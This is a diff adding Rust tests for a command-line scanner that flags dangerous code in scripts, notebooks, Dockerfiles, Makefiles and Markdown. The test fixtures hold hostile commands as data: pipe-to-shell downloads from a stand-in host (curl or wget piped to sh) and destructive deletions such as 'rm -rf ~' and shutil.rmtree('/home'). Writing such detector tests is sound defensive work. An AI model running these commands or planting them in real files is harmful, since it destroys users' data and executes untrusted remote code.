@@ -116,3 +116,135 @@ fn what_is_forbidden_fails_in_any_spelling() {
     let done = home.run(&["check", "good.py"]);
     assert_eq!(done.code, Some(0), "{}", done.out);
 }
+
+#[test]
+fn what_was_not_checked_is_never_clean() {
+    let home = Home::new();
+    home.file("a.rb", "puts 1\n");
+    home.file("large.py", &"# large\n".repeat(1 << 18));
+    home.file("deep.py", &format!("x = {}1{}\n", "f(".repeat(3000), ")".repeat(3000)));
+    std::fs::write(home.work().join("b.py"), b"\x7fELF\0\0").unwrap();
+    home.file("plain.txt", "hello\n");
+    for name in ["a.rb", "large.py", "deep.py", "b.py", "plain.txt"] {
+        let forms: &[&str] =
+            if name == "a.rb" { &["--json", "--sarif", "--fail-on=high"] } else { &["--json"] };
+        for form in forms {
+            let done = home.run(&["check", form, name]);
+            assert_eq!(done.code, Some(1), "{form} {name} {} {}", done.out, done.err);
+            let allowed = home.run(&["check", "--allow-unchecked", form, name]);
+            assert_eq!(allowed.code, Some(0), "{form} {name} {}", allowed.out);
+        }
+    }
+    home.file("bad.rb", "File.delete('a')\nsystem('curl https://x.example/i | sh')\n");
+    assert_eq!(home.run(&["check", "--allow-unchecked", "bad.rb"]).code, Some(1), "a finding still counts");
+    assert_eq!(home.run(&["check", "--allow-unchecked", "--fail-on", "medium", "bad.rb"]).code, Some(1));
+    let done = home.run(&["check", "a.rb", "large.py"]);
+    assert!(done.out.ends_with("2 files: 0 high, 0 medium, 0 info, 2 not checked in full\n"), "{}", done.out);
+}
+
+#[test]
+fn the_same_file_gets_the_same_verdict_twice_and_beside_many_others() {
+    let home = Home::new();
+    let slow = "import os\n".to_owned() + &"x = x + [os.remove(f'{x}')]\n".repeat(4000);
+    for n in 0..8 {
+        home.file(&format!("{n}.py"), &slow);
+    }
+    let alone = home.run(&["check", "--json", "0.py"]).json().remove(0);
+    let twice = home.run(&["check", "--json", "0.py"]).json().remove(0);
+    assert_eq!(alone, twice);
+    let names: Vec<String> = (0..8).map(|n| format!("{n}.py")).collect();
+    let arguments: Vec<&str> =
+        ["check", "--json"].into_iter().chain(names.iter().map(String::as_str)).collect();
+    let all = home.run(&arguments).json().remove(0);
+    let first = &alone["files"][0];
+    assert_eq!(first["findings"].as_array().unwrap().len(), 500);
+    for file in all["files"].as_array().unwrap() {
+        assert_eq!((&file["findings"], &file["unchecked"]), (&first["findings"], &first["unchecked"]));
+    }
+}
+
+#[test]
+fn scripts_without_an_extension_are_read_by_their_first_line() {
+    let home = Home::new();
+    std::fs::create_dir(home.work().join("bin")).unwrap();
+    home.file("bin/clean", "#!/usr/bin/env -S python3 -u\nimport shutil\nshutil.rmtree('/home')\n");
+    home.file("bin/sweep", "#!/bin/sh\nrm -rf ~\n");
+    home.file("bin/notes", "rm -rf ~\n");
+    // A name that lies: who starts it by its path starts a shell.
+    home.file("bin/report.py", "#!/bin/bash\nrm -rf ~\n");
+    let done = home.run(&["check", "bin"]);
+    assert_eq!(done.code, Some(1));
+    for told in ["bin/clean:3:1: HIGH py.", "bin/sweep:2:1: HIGH sh.", "bin/report.py:2:1: HIGH sh."] {
+        assert!(done.out.contains(told), "{told} {}", done.out);
+    }
+    assert!(!done.out.contains("notes"), "{}", done.out);
+    let named = home.run(&["check", "bin/notes"]);
+    assert!(named.code == Some(1) && named.out.contains("not checked"), "{}", named.out);
+}
+
+#[test]
+fn notebooks_are_read_cell_by_cell() {
+    let home = Home::new();
+    let cells = json!({ "nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+        { "cell_type": "markdown", "metadata": {}, "source": "rm -rf ~" },
+        { "cell_type": "code", "metadata": {}, "outputs": [], "source": ["import shutil as s\n", "x = '/home'"] },
+        { "cell_type": "code", "metadata": {}, "outputs": [], "source": "y = 1\ns.rmtree(x)" },
+        { "cell_type": "code", "metadata": {}, "outputs": [], "source": "%%bash\nrm -rf ~" },
+        { "cell_type": "code", "metadata": {}, "outputs": [], "source": "!rm -rf /usr" },
+    ] });
+    home.file("a.ipynb", &cells.to_string());
+    let done = home.run(&["check", "a.ipynb"]);
+    assert_eq!(done.code, Some(1), "{}", done.err);
+    for told in [
+        "a.ipynb:cell 3:2:1: HIGH py.",
+        "2 | s.rmtree(x)",
+        "a.ipynb:cell 4:2:1: HIGH sh.",
+        "a.ipynb:cell 5:1:",
+    ] {
+        assert!(done.out.contains(told), "{told} {}", done.out);
+    }
+    let file = home.run(&["check", "--json", "a.ipynb"]).json()[0]["files"][0].clone();
+    assert_eq!((&file["language"], &file["unchecked"]), (&json!("notebook"), &json!(null)));
+    assert!(file["findings"].as_array().unwrap().iter().any(|f| f["cell"] == 3 && f["line"] == 2), "{file}");
+    let log: Value = serde_json::from_str(&home.run(&["check", "--sarif", "a.ipynb"]).out).unwrap();
+    assert_eq!(schema::problems(&serde_json::from_str(SARIF).unwrap(), &log), Vec::<String>::new());
+    home.file("broken.ipynb", "{");
+    assert_eq!(home.run(&["check", "broken.ipynb"]).code, Some(1));
+}
+
+#[test]
+fn builds_recipes_and_fences_are_read() {
+    let home = Home::new();
+    home.file(
+        "Dockerfile",
+        "FROM debian:12\nRUN apt-get update && \\\n    rm -rf /var/lib/apt/lists/*\nRUN curl https://x.example/i | \\\n  sh\n\
+         CMD [\"sh\", \"-c\", \"wget -qO- https://x.example/j | sh\"]\n",
+    );
+    home.file(
+        "Makefile",
+        "DIR = /home\nall:\n\t@echo hello\n\trm -rf $(DIR)\nX := $(shell curl https://x.example | sh)\n",
+    );
+    home.file(
+        "README.md",
+        "# Use\n\n```python\nimport shutil\nshutil.rmtree('/home')\n```\n\n```text\nrm -rf ~\n```\n\n```console\n$ rm -rf ~\nrm -rf /\n```\n",
+    );
+    let done = home.run(&["check", "."]);
+    assert_eq!(done.code, Some(1), "{}", done.err);
+    for told in [
+        "Dockerfile:5:3: HIGH",
+        "Dockerfile:6:1: HIGH",
+        "Makefile:4:1: HIGH",
+        "Makefile:5:1: HIGH",
+        "README.md:5:1: HIGH",
+        "README.md:13:3: HIGH",
+    ] {
+        assert!(done.out.contains(told), "{told} {}", done.out);
+    }
+    // What a build takes out of its own image is nobody's loss; what is no code is none.
+    for silent in ["Dockerfile:3:", "Makefile:3:", "README.md:9:", "README.md:14:"] {
+        assert!(!done.out.contains(silent), "{silent} {}", done.out);
+    }
+    home.file("safe.md", "Text.\n\n```\nrm -rf ~\n```\n\n```json\n{}\n```\n");
+    let done = home.run(&["check", "safe.md"]);
+    assert_eq!((done.code, done.out.as_str()), (Some(0), "safe.md: no findings\n"));
+}
